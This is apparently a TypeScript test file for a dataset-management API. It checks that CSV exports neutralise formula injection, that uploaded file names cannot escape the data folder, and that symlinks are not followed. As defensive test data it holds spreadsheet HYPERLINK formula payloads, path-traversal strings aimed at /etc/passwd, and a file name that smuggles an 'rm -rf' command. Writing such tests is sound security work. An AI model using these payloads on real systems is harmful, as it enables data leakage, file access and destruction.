// Hostile files over the API: cells that a spreadsheet would compute, names that lead elsewhere or are no names, links in
// the folder of datasets. What is given out is what was taken in, and nothing lies or is read outside of the folder.
import { createHash } from "node:crypto";
import {
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { unguarded } from "../../../src/synth/profiles/write/csv-text.ts";
import { makeFolder } from "../../support/folders.ts";
import { type TestStudio, testStudio } from "../../support/studio.ts";

const marks = ["=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const before = ["", " ", "\u200B", "\uFEFF", "'", "''", "\u00A0"];
const cells = marks.flatMap((mark) =>
  before.map((one) => `${one}${mark}HYPERLINK("http://127.0.0.1/?"&A1,"x")`),
);
const harmless = ["1 = 1", "a-b", "x@y.example", "“=1”", "'quoted'", "a\nb", 'say "=1"'];

const instruction = (text: string): string =>
  JSON.stringify({ instruction: text, input: `${text} `, output: text });

async function uploaded({ client }: TestStudio, lines: readonly string[], name = "rows.jsonl") {
  const file = { name, text: `${lines.join("\n")}\n` };
  const { status, body } = await client.call("postDatasetsUpload", { file });
  expect([name, status, body]).toEqual([name, 200, expect.any(Object)]);
  return body as { dataset_id: number; dataset: { name: string; file_path: string } };
}

const csvOf = async ({ ask }: TestStudio, id: number): Promise<string> =>
  await (await ask(`/api/datasets/${id}/download?format=csv`)).text();

test("no cell of an export begins as a spreadsheet's formula does, and every one can be read back", async () => {
  const studio = await testStudio();
  const texts = [...cells, ...harmless];
  const lines = texts.map(instruction);
  const { dataset_id: id } = await uploaded(studio, lines);
  const jsonl = await studio.ask(`/api/datasets/${id}/download`);
  expect(await jsonl.text()).toBe(`${lines.join("\n")}\n`);
  const [head, ...records] = parse(await csvOf(studio, id), { bom: false }) as string[][];
  expect(head?.slice(3)).toEqual(["instruction", "input", "output", "metadata"]);
  expect(records).toHaveLength(texts.length);
  for (const [at, record] of records.entries()) {
    const text = texts[at] ?? "";
    expect(record.slice(3, 6).map(unguarded)).toEqual([text, `${text} `, text]);
    for (const cell of record) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠\t\r\n]/u);
    if (harmless.includes(text)) expect(record[3]).toBe(text);
  }
});

test("messages of a chat stand in a cell of JSON, which computes nothing", async () => {
  const studio = await testStudio();
  const chat = JSON.stringify({
    messages: [
      { role: "user", content: "=1+1" },
      { role: "assistant", content: "@SUM(A1)" },
    ],
  });
  const { dataset_id: id } = await uploaded(studio, [chat]);
  const [, record = []] = parse(await csvOf(studio, id)) as string[][];
  expect(JSON.parse(record[3] ?? "")).toEqual((JSON.parse(chat) as { messages: unknown }).messages);
  for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

/** Every file below a folder, with what is in it. */
function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

const long = "n".repeat(300);
const names = [
  ...["../../../escaped.jsonl", "..\\..\\escaped.jsonl", "/etc/escaped.jsonl", "C:\\escaped.jsonl"],
  ...["..", ".", "", "a\0b.jsonl", "a\r\nb.jsonl", `${long}.jsonl`, "語".repeat(300), "~/x.jsonl"],
  ...[
    "%2e%2e%2fescaped.jsonl",
    ".hidden.jsonl",
    "con.jsonl",
    "\u202Elnosj.exe",
    "a b;rm -rf .jsonl",
  ],
];

test("whatever an upload is called, its file lies in the folder under a name of our own", async () => {
  const outside = makeFolder();
  const folder = join(outside, "sets");
  const studio = await testStudio({ environment: { DATA_DIR: folder } });
  const form = async (name: string, fields: Record<string, string> = {}) => {
    const data = new FormData();
    for (const [field, value] of Object.entries(fields)) data.append(field, value);
    data.append("file", new Blob([`${instruction("q")}\n`]), name);
    return await studio.ask("/api/datasets/upload", { method: "POST", body: data });
  };
  const paths = new Set<string>();
  for (const name of names) {
    for (const fields of [{}, { name, domain: name }]) {
      const answer = await form(name, fields);
      const body = (await answer.json()) as { dataset?: { id: number; file_path: string } };
      expect([name, answer.status]).toEqual([name, 200]);
      const { id = 0, file_path: path = "" } = body.dataset ?? {};
      expect(dirname(path)).toBe(folder);
      expect(path.slice(folder.length + 1)).toMatch(/^[\p{L}\p{N}_]+_\d{8}_\d{6}\.jsonl$/u);
      paths.add(path);
      const got = await studio.ask(`/api/datasets/${id}/download`);
      expect(await got.text()).toBe(`${instruction("q")}\n`);
      expect(got.headers.get("content-disposition")).not.toMatch(/[\r\n\0]/);
    }
  }
  expect(filesBelow(outside).toSorted()).toEqual([...paths].toSorted());
});

test("a name of 300 characters is one in every script; a longer one is refused where it is given", async () => {
  const studio = await testStudio();
  const { dataset_id: id } = await uploaded(studio, [instruction("q")]);
  for (const name of [long, "語".repeat(300), "../".repeat(100)]) {
    const body = { dataset_ids: [id, id], name };
    const merged = await studio.client.call("postUtilsMerge", { body });
    expect([merged.status, merged.body.dataset?.name]).toEqual([200, name]);
    const path = merged.body.dataset.file_path as string;
    expect(dirname(path)).toBe(join(studio.home, "datasets"));
    expect(readFileSync(path, "utf8").split("\n")).toHaveLength(3);
  }
  const body = { dataset_ids: [id], name: `${long}n` };
  expect((await studio.client.call("postUtilsMerge", { body })).status).toBe(422);
});

test("numbers of datasets are numbers: no path stands for one", async () => {
  const studio = await testStudio();
  for (const id of [
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e",
    "1%00",
    "%2Fetc%2Fpasswd",
    "1e1",
    "-1",
    "0x1",
  ])
    for (const end of ["", "/download", "/examples"]) {
      const answer = await studio.ask(`/api/datasets/${id}${end}`);
      expect([id, end, answer.status < 500 && answer.status >= 400]).toEqual([id, end, true]);
    }
});

const hashOf = (path: string): string =>
  createHash("sha256").update(readFileSync(path)).digest("hex");

test("links in the folder are not followed: neither taken in, nor read, nor written through", async () => {
  const outside = makeFolder({
    "secret.txt": "the key is 7731\n",
    "rows.jsonl": `${instruction("secret row")}\n`,
  });
  const folder = join(makeFolder(), "sets");
  mkdirSync(folder);
  symlinkSync(join(outside, "rows.jsonl"), join(folder, "linked.jsonl"));
  symlinkSync(outside, join(folder, "folder.jsonl"));
  const studio = await testStudio({ environment: { DATA_DIR: folder } });
  expect((await studio.client.call("getDatasets")).body).toEqual([]);
  const lines = [instruction("one"), instruction("two")];
  for (const target of ["secret.txt", "rows.jsonl", "nowhere"]) {
    const { dataset_id: id, dataset } = await uploaded(studio, lines);
    const path = dataset.file_path;
    const linked = join(outside, target);
    const hash = target === "nowhere" ? "" : hashOf(linked);
    const link = (): void => {
      rmSync(path);
      symlinkSync(linked, path);
    };
    link();
    const got = await studio.ask(`/api/datasets/${id}/download`);
    expect([target, await got.text()]).toEqual([target, `${lines.join("\n")}\n`]);
    link();
    const { body: page } = await studio.client.call("getDatasetsIdExamples", { params: { id } });
    expect(page.total).toBe(2);
    const put = await studio.client.call("putExamplesId", {
      params: { id: page.examples[0].id as number },
      body: { content: JSON.parse(instruction("changed")) as object },
    });
    expect(put.status).toBe(200);
    expect(lstatSync(path).isSymbolicLink()).toBe(false);
    expect(readFileSync(path, "utf8")).toBe(`${instruction("changed")}\n${lines[1]}\n`);
    link();
    expect((await studio.client.call("deleteDatasetsId", { params: { id } })).status).toBe(200);
    expect(target === "nowhere" ? "" : hashOf(linked)).toBe(hash);
  }
  expect(readdirSync(outside).toSorted()).toEqual(["rows.jsonl", "secret.txt"]);
});

test("a file of the longest name that the system takes is taken in, changed and given out", async () => {
  const name = `${"n".repeat(249)}.jsonl`;
  const folder = makeFolder({ [name]: `${instruction("q")}\n` });
  const studio = await testStudio({ environment: { DATA_DIR: folder } });
  const [{ id }] = (await studio.client.call("getDatasets")).body as [{ id: number }];
  const { body: page } = await studio.client.call("getDatasetsIdExamples", { params: { id } });
  const put = await studio.client.call("putExamplesId", {
    params: { id: page.examples[0].id as number },
    body: { content: JSON.parse(instruction("changed")) as object },
  });
  expect(put.status).toBe(200);
  expect(readFileSync(join(folder, name), "utf8")).toBe(`${instruction("changed")}\n`);
  writeFileSync(join(folder, name), `${instruction("by hand")}\n`);
  const got = await studio.ask(`/api/datasets/${id}/download`);
  expect(await got.text()).toBe(`${instruction("by hand")}\n`);
});

const nested = (levels: number): string =>
  `{"instruction":"q","output":"a","metadata":${"[".repeat(levels)}${"]".repeat(levels)}}`;

test("a row that is nested too deep or too long is refused with its line, and the studio starts beside such files", async () => {
  const long = instruction("x".repeat(9 * 1024 * 1024));
  const folder = makeFolder({
    "deep.jsonl": `${instruction("q")}\n${nested(5000)}\n`,
    "good.jsonl": `${nested(98)}\n`,
    "long.jsonl": `${long}\n`,
  });
  const studio = await testStudio({ environment: { DATA_DIR: folder } });
  const { body: sets } = await studio.client.call("getDatasets");
  expect(sets).toMatchObject([{ name: "good", example_count: 1 }]);
  for (const [bad, why] of [
    [nested(100_000), "the row is nested deeper than 100 levels"],
    [long, "the row is over 16 MiB long"],
  ] as const) {
    const file = { name: "rows.jsonl", text: `${instruction("q")}\n${bad}\n` };
    const { status, body } = await studio.client.call("postDatasetsUpload", { file });
    expect([status, body.error]).toMatchObject([422, { code: "FT-PLATFORM-003", line: 2 }]);
    expect(body.error.message).toBe(`rows.jsonl, line 2: ${why}`);
  }
});
